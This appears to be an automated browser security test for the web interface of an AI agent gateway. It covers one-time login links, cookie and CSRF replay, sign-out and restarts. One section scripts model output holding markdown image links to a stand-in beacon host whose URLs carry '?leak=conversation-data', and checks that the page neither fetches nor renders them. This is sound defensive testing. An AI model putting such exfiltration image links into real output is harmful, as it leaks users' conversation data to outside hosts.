/**
 * The page's security in headless Chromium against a real box (gateway + host on a temp
 * data dir, in this process so the image proxy's resolver can be injected; only the model
 * is scripted): the page carries no token and signs in with a one-time link; an open tab
 * survives a restart of the box; model output never makes the page fetch a remote image.
 *
 * The "outside host" is an https beacon on 127.0.0.2 named `beacon.test`: Chromium is told
 * that name (host-resolver rules) and ignores the test certificate, so a page that rendered
 * the image itself would reach the beacon; the gateway is told the same name, trusts the
 * test certificate and lets 127.0.0.2 through its address policy.
 */
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addressKind } from '../../box/src/net/addresses.ts';
import type { RunningGateway as BoxGateway } from '../../box/src/gateway/server.ts';
import { startGatewayOn, startTestBox, type TestBox } from '../../box/src/gateway/test-support.ts';
import { testModel } from '../../box/src/gateway/test-model.ts';
import { ensureBuilt, launchBrowser, saveScreenshot } from './support.ts';

const FIXTURES = fileURLToPath(new URL('./fixtures/', import.meta.url));
const WEB_DIST = fileURLToPath(new URL('../dist/', import.meta.url));
const CERT = fs.readFileSync(path.join(FIXTURES, 'beacon-test.cert.pem'), 'utf8');
const KEY = fs.readFileSync(path.join(FIXTURES, 'beacon-test.key.pem'), 'utf8');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

interface BeaconHit {
  path: string;
  userAgent: string;
  cookie: string | undefined;
}

let beacon: https.Server;
let beaconPort: number;
const hits: BeaconHit[] = [];
let browser: Browser;
let box: TestBox;
/** The gateway serving now (a test restarts it). */
let gateway: BoxGateway;
let agentId: string;

async function call(method: string, body: unknown = {}): Promise<unknown> {
  const response = await fetch(new URL(`api/${method}`, gateway.url), {
    method: 'POST',
    headers: { Authorization: `Bearer ${gateway.token}` },
    body: JSON.stringify(body),
  });
  expect(response.status, method).toBe(200);
  return response.json();
}

async function say(prompt: string): Promise<void> {
  await call('sendPrompt', { agentId, prompt, clientNonce: `${prompt}-${Date.now()}` });
}

const beaconUrl = (name: string) => `https://beacon.test:${beaconPort}/${name}.png?leak=conversation-data`;
const hitsOf = (name: string) => hits.filter((hit) => hit.path.startsWith(`/${name}.png`));

/** A context that signs in through the real login link, in Chromium. */
async function signedInPage(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 900 },
    ignoreHTTPSErrors: true,
  });
  const page = await context.newPage();
  await page.goto(gateway.loginUrl());
  return { context, page };
}

beforeAll(async () => {
  ensureBuilt();
  beacon = https.createServer({ key: KEY, cert: CERT }, (req, res) => {
    hits.push({
      path: req.url ?? '',
      userAgent: req.headers['user-agent'] ?? '',
      cookie: req.headers.cookie,
    });
    res.writeHead(200, { 'Content-Type': 'image/png' }).end(PNG);
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.2', resolve));
  beaconPort = (beacon.address() as AddressInfo).port;
  browser = await launchBrowser(['--host-resolver-rules=MAP beacon.test 127.0.0.2']);
  box = await startTestBox(testModel(), {
    webRoot: WEB_DIST,
    imagePolicy: {
      resolve: (hostname) =>
        hostname === 'beacon.test'
          ? Promise.resolve([{ address: '127.0.0.2', family: 4 }])
          : Promise.reject(new Error(`ENOTFOUND ${hostname}`)),
      kindOf: (address) => (address === '127.0.0.2' ? 'public' : addressKind(address)),
      ca: CERT,
    },
  });
  gateway = box.gateway;
  agentId = ((await call('createAgent', { name: 'Beacon' })) as { agent: { id: string } }).agent.id;
});

afterAll(async () => {
  await browser?.close();
  if (gateway !== box?.gateway) await gateway?.close();
  await box?.close();
  beacon?.closeAllConnections();
  await new Promise((resolve) => beacon?.close(resolve));
});

describe('signing in', () => {
  it('shows a browser without a session a sign-in page with no token', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const response = await page.goto(gateway.url);
      expect(response?.status()).toBe(401);
      expect(await page.textContent('body')).toContain('sendbox login');
      expect(await page.content()).not.toContain(gateway.token);
      expect(await page.locator('#root').count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it('signs in with the login link: HttpOnly SameSite=Strict cookie, clean URL, no token in anything served', async ({
    task,
  }) => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const page = await context.newPage();
      const bodies: Promise<string>[] = [];
      page.on('response', (response) => {
        // The event stream never ends; a redirect has no body.
        const stream = response.headers()['content-type']?.startsWith('text/event-stream') === true;
        if (!stream && (response.status() < 300 || response.status() >= 400)) {
          bodies.push(response.text().catch(() => ''));
        }
      });
      const link = gateway.loginUrl();
      await page.goto(link);
      expect(page.url()).toBe(gateway.url);
      await page.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      const cookies = await context.cookies();
      expect(cookies).toHaveLength(1);
      expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: false, path: '/' });
      expect(await page.evaluate(() => document.cookie)).toBe('');
      const served = await Promise.all(bodies);
      expect(served.length).toBeGreaterThan(3); // the page, its scripts, the API answers
      for (const body of served) expect(body).not.toContain(gateway.token);
      await saveScreenshot(page, task.name);

      // The same link, opened again, signs nobody in.
      const other = await browser.newContext();
      try {
        const again = await other.newPage();
        expect((await again.goto(link))?.status()).toBe(403);
        expect(await again.textContent('body')).toMatch(/used already/);
        expect(await other.cookies()).toEqual([]);
      } finally {
        await other.close();
      }
    } finally {
      await context.close();
    }
  });
});

describe('a session only its own tabs can use', () => {
  it('refuses the cookie another local server received, replayed with the old constant CSRF headers', async () => {
    // A dev server on another port of this host: the browser sends it the box's cookie too.
    const received: string[] = [];
    const other = http.createServer((req, res) => {
      received.push(req.headers.cookie ?? '');
      res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>dev server</title>');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const { context, page } = await signedInPage();
    try {
      await page.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
      const cookie = received.find((header) => header.includes('sendbox_'));
      expect(cookie).toBeDefined();
      for (const method of ['listAgents', 'createAgent']) {
        const replay = await fetch(new URL(`api/${method}`, gateway.url), {
          method: 'POST',
          headers: {
            Cookie: cookie!,
            'X-Sendbox-Request': '1',
            Origin: new URL(gateway.url).origin,
            'Sec-Fetch-Site': 'same-origin',
            'Content-Type': 'application/json',
          },
          body: JSON.stringify(method === 'createAgent' ? { name: 'planted' } : {}),
        });
        expect(replay.status, method).toBe(401);
        await replay.body?.cancel();
      }
    } finally {
      await context.close();
      other.closeAllConnections();
      await new Promise((resolve) => other.close(resolve));
    }
  });

  it('keeps a reload signed in, signs in a second tab from the first, and not a tab opened alone', async () => {
    const { context, page } = await signedInPage();
    try {
      await page.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      expect(page.url()).not.toContain('session=');
      await page.reload();
      await page.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      // A second tab opened by hand (no fragment, empty sessionStorage) asks the first one.
      const second = await context.newPage();
      await second.goto(gateway.url);
      await second.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      await second.close();
      await page.close();
      // With no signed-in tab left open, the cookie alone signs no tab in.
      const alone = await context.newPage();
      await alone.goto(gateway.url);
      await alone.locator('[data-testid="signed-out"]').waitFor();
      expect(await alone.textContent('[data-testid="signed-out"]')).toMatch(/not signed in.*sendbox login/s);
    } finally {
      await context.close();
    }
  });

  it('signs every tab of the browser out with Sign out, and the tab proof stops working', async ({
    task,
  }) => {
    const { context, page } = await signedInPage();
    try {
      await page.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      const second = await context.newPage();
      await second.goto(gateway.url);
      await second.locator('[data-testid="agent-row"]', { hasText: 'Beacon' }).waitFor();
      const proof = await page.evaluate(() => sessionStorage.getItem('sendbox.session'));
      const cookie = (await context.cookies())[0]!;
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.locator('[data-testid="signed-out"]', { hasText: 'Signed out' }).waitFor();
      await second.locator('[data-testid="signed-out"]', { hasText: 'Signed out' }).waitFor();
      expect(await page.evaluate(() => sessionStorage.getItem('sendbox.session'))).toBeNull();
      expect(await context.cookies()).toEqual([]);
      const replay = await fetch(new URL('api/listAgents', gateway.url), {
        method: 'POST',
        headers: {
          Cookie: `${cookie.name}=${cookie.value}`,
          'X-Sendbox-Session': proof!,
          Origin: new URL(gateway.url).origin,
        },
        body: '{}',
      });
      expect(replay.status).toBe(401);
      await replay.body?.cancel();
      await saveScreenshot(page, task.name);
    } finally {
      await context.close();
    }
  });
});

describe('remote images in model output', () => {
  it('are not fetched by the page; one loads after "Load image", through the gateway', async ({ task }) => {
    await say(`say:![beacon](${beaconUrl('markdown')})`);
    await say(`image:${beaconUrl('grid')}`);
    const { context, page } = await signedInPage();
    try {
      await page.goto(`${gateway.url}#agent=${agentId}`);
      await page.locator('[data-testid="bubble"]', { hasText: 'echo:' }).waitFor();
      await page.locator('[data-testid="bubble"]', { hasText: 'an image' }).waitFor();
      // An <img> starts loading as soon as it is in the document; give a leaking page the chance.
      await page.waitForTimeout(1_000);
      const requested = await page.evaluate(() =>
        performance.getEntriesByType('resource').map((entry) => entry.name),
      );
      expect(requested.filter((name) => name.includes('beacon.test'))).toEqual([]);
      expect(hits).toEqual([]);
      const markdown = page.locator('.markdown [data-testid="remote-image"]');
      const grid = page.locator('[data-testid="image-grid"] [data-testid="remote-image"]');
      await markdown.waitFor();
      await grid.waitFor();
      expect(await markdown.getAttribute('data-host')).toBe('beacon.test');
      expect(await markdown.textContent()).toContain('Image from beacon.test');

      await markdown.getByRole('button', { name: 'Load image' }).click();
      const loaded = page.locator('.markdown img[alt="beacon"]');
      await loaded.waitFor();
      expect(await loaded.getAttribute('src')).toMatch(/^blob:/);
      expect(hitsOf('markdown')).toEqual([
        { path: '/markdown.png?leak=conversation-data', userAgent: 'sendbox-image-proxy', cookie: undefined },
      ]);
      expect(hitsOf('grid')).toEqual([]);

      // Whatever renders a remote image despite the placeholder, the page's CSP stops it.
      const violation = page.evaluate(
        (src) =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(event.effectiveDirective),
            );
            const image = document.createElement('img');
            image.src = src;
            document.body.append(image);
          }),
        beaconUrl('injected'),
      );
      expect(await violation).toBe('img-src');
      expect(hitsOf('injected')).toEqual([]);
      await saveScreenshot(page, task.name);
    } finally {
      await context.close();
    }
  });

  it('load through the gateway without a click once their domain is allowed, and stay allowed', async () => {
    const { context, page } = await signedInPage();
    try {
      await page.goto(`${gateway.url}#agent=${agentId}`);
      const grid = page.locator('[data-testid="image-grid"]');
      await grid.getByRole('button', { name: 'Always load from beacon.test' }).click();
      await grid.locator('img[alt="grid image"]').waitFor();
      const allowed: unknown = JSON.parse(
        await fs.promises.readFile(path.join(box.dataDir, 'image-hosts.json'), 'utf8'),
      );
      expect(allowed).toEqual({ hosts: ['beacon.test'] });

      await page.reload();
      await page.locator('.markdown img[alt="beacon"]').waitFor();
      await page.locator('[data-testid="image-grid"] img[alt="grid image"]').waitFor();
      expect(hits.length).toBeGreaterThan(1);
      for (const hit of hits) expect(hit.userAgent).toBe('sendbox-image-proxy');
    } finally {
      await context.close();
    }
  });
});

describe('an open tab', () => {
  it('keeps working across a restart of the box on the same data dir', async ({ task }) => {
    const { context, page } = await signedInPage();
    try {
      await page.goto(`${gateway.url}#agent=${agentId}`);
      await page.locator('[data-testid="bubble"]').first().waitFor();
      const port = gateway.port;
      await gateway.close();
      gateway = await startGatewayOn(box.host, box.dataDir, { webRoot: WEB_DIST, port });
      // The tab's event stream reconnects with its cookie and shows what the agent says now.
      await say('say:after-the-restart');
      await page
        .locator('[data-testid="bubble"]', { hasText: 'echo: after-the-restart' })
        .waitFor({ timeout: 20_000 });
      await saveScreenshot(page, task.name);
    } finally {
      await context.close();
    }
  });
});
